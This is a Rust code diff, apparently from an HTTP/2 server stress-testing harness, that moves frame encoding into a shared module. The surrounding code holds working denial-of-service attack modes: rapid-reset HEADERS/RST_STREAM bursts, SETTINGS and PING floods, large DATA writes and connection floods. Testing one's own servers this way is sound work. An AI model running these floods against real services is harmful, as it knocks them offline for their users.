@@ -14,25 +14,27 @@ use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::net::tcp::{OwnedReadHalf, OwnedWriteHalf};
 
-pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
-pub const DATA: u8 = 0x0;
-pub const HEADERS: u8 = 0x1;
-pub const RST_STREAM: u8 = 0x3;
-pub const SETTINGS: u8 = 0x4;
-pub const PING: u8 = 0x6;
-pub const GOAWAY: u8 = 0x7;
-pub const WINDOW_UPDATE: u8 = 0x8;
-pub const END_STREAM: u8 = 0x1;
-pub const END_HEADERS: u8 = 0x4;
-pub const CANCEL: u32 = 0x8;
+pub use common::http2::PREFACE;
+pub use common::http2::error_code::CANCEL;
+pub use common::http2::flags::{ACK, END_HEADERS, END_STREAM};
+pub use common::http2::frame_type::{GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE};
+use common::http2::{FrameHeader, encode};
 
 /// One frame's bytes.
 pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     let mut f = Vec::with_capacity(9 + payload.len());
-    f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
-    f.extend([kind, flags]);
-    f.extend(stream.to_be_bytes());
-    f.extend_from_slice(payload);
+    encode::frame(&mut f, kind, flags, stream, payload);
+    f
+}
+
+/// An empty SETTINGS frame, or its ACK.
+fn empty_settings(ack: bool) -> Vec<u8> {
+    let mut f = Vec::with_capacity(9);
+    if ack {
+        encode::settings_ack(&mut f);
+    } else {
+        encode::settings(&mut f, &[]);
+    }
     f
 }
 
@@ -126,11 +128,10 @@ type Answers = Arc<Mutex<ServerAnswers>>;
 async fn read_frame(io: &mut OwnedReadHalf) -> std::io::Result<(u8, u8, u32, Vec<u8>)> {
     let mut head = [0u8; 9];
     io.read_exact(&mut head).await?;
-    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
-    let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]) & 0x7fff_ffff;
-    let mut payload = vec![0u8; len];
+    let head = FrameHeader::parse(&head);
+    let mut payload = vec![0u8; head.len() as usize];
     io.read_exact(&mut payload).await?;
-    Ok((head[3], head[4], stream, payload))
+    Ok((head.kind(), head.flags(), head.stream_id(), payload))
 }
 
 fn tally(answers: &Answers, kind: u8, flags: u8, payload: &[u8]) {
@@ -146,8 +147,8 @@ fn tally(answers: &Answers, kind: u8, flags: u8, payload: &[u8]) {
             *a.resets.entry(code).or_default() += 1;
         }
         HEADERS => a.headers += 1,
-        SETTINGS if flags & 1 == 1 => a.settings_acks += 1,
-        PING if flags & 1 == 1 => a.ping_acks += 1,
+        SETTINGS if flags & ACK != 0 => a.settings_acks += 1,
+        PING if flags & ACK != 0 => a.ping_acks += 1,
         _ => {}
     }
 }
@@ -172,15 +173,15 @@ impl H2Conn {
         stream.set_nodelay(true)?;
         let (mut read, mut write) = stream.into_split();
         let mut hello = PREFACE.to_vec();
-        hello.extend(frame(SETTINGS, 0, 0, &[]));
+        hello.extend(empty_settings(false));
         write.write_all(&hello).await?;
         let (mut settings, mut window) = (false, !wait_window);
         while !(settings && window) {
             let (kind, flags, stream, payload) = read_frame(&mut read).await?;
             match kind {
-                SETTINGS if flags & 1 == 0 => {
+                SETTINGS if flags & ACK == 0 => {
                     settings = true;
-                    write.write_all(&frame(SETTINGS, 1, 0, &[])).await?;
+                    write.write_all(&empty_settings(true)).await?;
                 }
                 WINDOW_UPDATE if stream == 0 => window = true,
                 _ => tally(answers, kind, flags, &payload),
@@ -329,7 +330,7 @@ pub async fn run(attack: Attack, addr: SocketAddr, size: AttackSize) -> AttackRe
                 let block = request_headers(&addr.to_string(), 0);
                 for id in (first..).step_by(2).take(100) {
                     bytes.extend(frame(HEADERS, END_HEADERS, id, &block));
-                    bytes.extend(frame(RST_STREAM, 0, id, &CANCEL.to_be_bytes()));
+                    encode::rst_stream(&mut bytes, id, CANCEL);
                 }
                 bytes
             };
@@ -348,7 +349,11 @@ pub async fn run(attack: Attack, addr: SocketAddr, size: AttackSize) -> AttackRe
         }
         Attack::SettingsFlood => {
             // INITIAL_WINDOW_SIZE = 65,535: valid, and it makes the server revisit every stream.
-            let one = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]);
+            let mut one = Vec::new();
+            encode::settings(
+                &mut one,
+                &[(common::http2::setting::INITIAL_WINDOW_SIZE, 65_535)],
+            );
             let bytes = one.repeat(100);
             flood(
                 addr,
@@ -362,7 +367,9 @@ pub async fn run(attack: Attack, addr: SocketAddr, size: AttackSize) -> AttackRe
             .await;
         }
         Attack::PingFlood => {
-            let bytes = frame(PING, 0, 0, &[0x5a; 8]).repeat(100);
+            let mut one = Vec::new();
+            encode::ping(&mut one, false, &[0x5a; 8]);
+            let bytes = one.repeat(100);
             flood(
                 addr,
                 &answers,
@@ -393,7 +400,7 @@ pub async fn run(attack: Attack, addr: SocketAddr, size: AttackSize) -> AttackRe
                         data.extend((4u32 << 20).to_be_bytes());
                         data.resize(1 << 20, 0x77);
                         for piece in data.chunks(16 << 10) {
-                            bytes.extend(frame(DATA, 0, id, piece));
+                            encode::data(&mut bytes, id, false, piece);
                         }
                     }
                     if conn.write.write_all(&bytes).await.is_err() {
@@ -428,7 +435,7 @@ pub async fn run(attack: Attack, addr: SocketAddr, size: AttackSize) -> AttackRe
                         connections.fetch_add(1, Relaxed);
                         if i % 2 == 0 {
                             let mut hello = PREFACE.to_vec();
-                            hello.extend(frame(SETTINGS, 0, 0, &[]));
+                            hello.extend(empty_settings(false));
                             let _ = stream.write_all(&hello).await;
                         }
                         units.fetch_add(1, Relaxed);
